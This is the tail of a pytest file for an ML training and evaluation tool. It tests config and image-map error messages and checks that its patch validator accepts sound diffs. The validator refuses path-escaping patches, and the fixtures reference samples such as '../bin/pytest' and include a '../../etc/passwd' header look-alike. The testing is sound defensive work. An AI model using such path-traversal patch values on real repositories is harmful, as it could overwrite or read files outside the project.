             Exits(r"error: algo=grpo has no option 'ttur_k' \(its options: group_size, loss, .*scale_by_std\)")),
    BadInput("train-override-unknown-env", sao_train("env=arithmetc"),
             Exits(r"error: env=arithmetc: unknown environment 'arithmetc'\. Did you mean 'arithmetic'\?")),
    BadInput("train-override-invalid-value", train_config("batch_size=6", "algo=grpo", "algo.group_size=4"),
             Raises(ConfigError, r"batch_size \(6\) must be a positive multiple of algo\.group_size \(4\)")),
    BadInput("train-override-negative-steps", train_config("max_steps=-1"),
             Raises(ConfigError, r"max_steps must be >= 1, got -1")),
    # bad image maps for sao-eval --image-map
    BadInput("image-map-missing-file", image_map(None),
             Exits(r"images\.json: cannot read the image map \(FileNotFoundError")),
    BadInput("image-map-malformed-json", image_map('{"o__r-1": "img:latest",'),
             Exits(r"images\.json: cannot read the image map \(JSONDecodeError")),
    BadInput("image-map-a-list", image_map('["img:latest"]'),
             Exits(r"images\.json: the image map must be a JSON object of instance_id -> image name")),
    BadInput("image-map-wrong-value-type", image_map('{"o__r-1": {"name": "img:latest"}}'),
             Exits(r"images\.json: the image map must be a JSON object of instance_id -> image name")),
]


def _param(case: BadInput) -> Any:
    marks = [pytest.mark.xfail(strict=True, reason=case.defect)] if case.defect else []
    return pytest.param(case, id=case.kind, marks=marks)


@pytest.fixture(scope="module")
def model():
    scripted = ScriptedModel()
    with scripted.server:
        yield scripted


@pytest.mark.parametrize("case", [_param(c) for c in TABLE])
def test_bad_input(case: BadInput, tmp_path: Path, model: ScriptedModel) -> None:
    case.expect.check(case.build, Given(tmp_path, model))


def test_the_table_holds_at_least_30_distinct_kinds() -> None:
    kinds = [c.kind for c in TABLE]
    assert len(set(kinds)) == len(kinds), sorted(k for k in kinds if kinds.count(k) > 1)
    assert len(kinds) >= 30


# -- the other side of the refusals: sound inputs pass the same checks ----------------------------------


SOUND_DIFFS = {
    "modify": """
        diff --git a/pkg/mod.py b/pkg/mod.py
        index 1111111..2222222 100644
        --- a/pkg/mod.py
        +++ b/pkg/mod.py
        @@ -1,2 +1,2 @@
        -x = 1
        +x = 2
         y = 3
        """,
    "a removed line that looks like a header": """
        diff --git a/db/q.sql b/db/q.sql
        --- a/db/q.sql
        +++ b/db/q.sql
        @@ -1,2 +1,2 @@
        --- ../../etc/passwd
        +-- a comment
         select 1;
        """,
    "binary file in the repository": BINARY_OUT.replace("../bin/pytest", "docs/logo.png"),
    "rename inside": RENAME_OUT.replace("../setup.py", "build/setup.py"),
    "symlink inside": """
        diff --git a/pkg/link b/pkg/link
        new file mode 120000
        index 0000000..1111111
        --- /dev/null
        +++ b/pkg/link
        @@ -0,0 +1 @@
        +../docs/index.rst
        \\ No newline at end of file
        """,
    "a quoted name": '''
        diff --git "a/docs/caf\\303\\251.txt" "b/docs/caf\\303\\251.txt"
        --- "a/docs/caf\\303\\251.txt"
        +++ "b/docs/caf\\303\\251.txt"
        @@ -1 +1 @@
        -a
        +b
        ''',
}


@pytest.mark.parametrize("name", list(SOUND_DIFFS))
def test_sound_diffs_are_not_refused(name: str) -> None:
    assert patch_problem(textwrap.dedent(SOUND_DIFFS[name]).lstrip("\n")) is None


def test_swebench_gold_and_test_patches_are_not_refused() -> None:
    from conftest import shared_file

    patches = [row[key] for name in ("swebench_verified.jsonl", "swebench_lite.jsonl")
               for row in map(json.loads, shared_file(f"swebench_partial/{name}").read_text().splitlines())
               for key in ("patch", "test_patch") if row.get(key)]
    assert len(patches) > 100
    assert [p[:200] for p in patches if patch_problem(p) is not None] == []


def test_sound_rows_pass_the_checks_the_bad_ones_fail(tmp_path: Path) -> None:
    """The files the table breaks, unbroken, in every format: they load (so each case fails for its one fault)."""
    for name, content in (("a.jsonl", jsonl(P1, P2, {**P2, "id": "p3", "answer": 4})), ("a.json", json.dumps([P1, P2])),
                          ("a.parquet", parquet([P1, P2]))):
        env = E.make("beyond-aime", data=str(write(name, content)(tmp_path)))
        assert env.unwrapped.task_ids()[:2] == ["p1", "p2"]
    env = E.make("imo-answerbench", data=str(write("ab.csv", f"{AB_HEADER}\nimo-1,What is 6 * 7?,42,A\n")(tmp_path)))
    assert env.unwrapped.task_ids() == ["imo-1"]
    swe = E.make("swe-bench-lite", data=str(write("instances.jsonl", jsonl(swe_row()))(tmp_path)))
    assert swe.unwrapped.task_ids() == ["o__r-1"]
    assert load_predictions(str(write("p.jsonl", jsonl({"instance_id": "o__r-1", "model_patch": None}))(tmp_path))) \
        == {"o__r-1": ""}


def test_sound_plugin_episode_and_rewards_pass(tmp_path: Path, model: ScriptedModel) -> None:
    """:class:`Say42` unbroken: the episode the plug-in cases break is ok and rewarded (an int reward too)."""
    t = bug()(Given(tmp_path, model))
    assert (t.status, t.reward, t.correct) == ("ok", 1.0, True)
    t = bug(_respond=_respond_with(reward=1))(Given(tmp_path, model))
    assert (t.status, t.reward) == ("ok", 1.0) and isinstance(t.reward, float)
